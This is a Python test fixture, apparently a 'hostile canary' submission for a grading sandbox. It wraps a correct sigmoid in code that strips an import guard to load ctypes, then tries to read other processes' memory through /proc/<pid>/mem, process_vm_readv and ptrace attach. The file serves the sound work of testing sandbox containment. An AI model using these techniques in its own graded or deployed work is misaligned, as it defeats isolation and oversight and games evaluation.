"""Hostile canary: read the memory of the zygote (the child's parent) and of every other process
it can name (pids 1..64): ``/proc/<pid>/mem`` at the address of ``None`` (the same in every
process forked from the zygote), ``process_vm_readv`` through ctypes (the import guard taken out
for the import and put back), and ``ptrace(PTRACE_ATTACH)``.  Right values only if one of them
read something; otherwise it raises "no memory of another process could be read".  Honest
score 0.
"""
import os
import sys

import numpy as np


def _good(x):
    """A correct, stable sigmoid (what an honest student writes)."""
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)


def _ctypes():
    saved = list(sys.meta_path)
    sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
    try:
        import ctypes
        return ctypes
    finally:
        sys.meta_path[:] = saved


def _read_any():
    ctypes = _ctypes()
    libc = ctypes.CDLL(None, use_errno=True)

    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    address = id(None)
    buf = ctypes.create_string_buffer(16)
    local, remote = IOVec(ctypes.addressof(buf), 16), IOVec(address, 16)
    for pid in {os.getppid(), *range(1, 65)} - {os.getpid()}:
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as f:
                f.seek(address)
                if f.read(16):
                    return f"/proc/{pid}/mem"
        except (OSError, ValueError, OverflowError):
            pass
        libc.process_vm_readv.restype = ctypes.c_ssize_t
        if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            return f"process_vm_readv {pid}"
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            return f"ptrace {pid}"
    return None


def sigmoid(x):
    how = _read_any()
    if how is None:
        raise PermissionError("no memory of another process could be read")
    print("read another process's memory:", how)
    return _good(x)
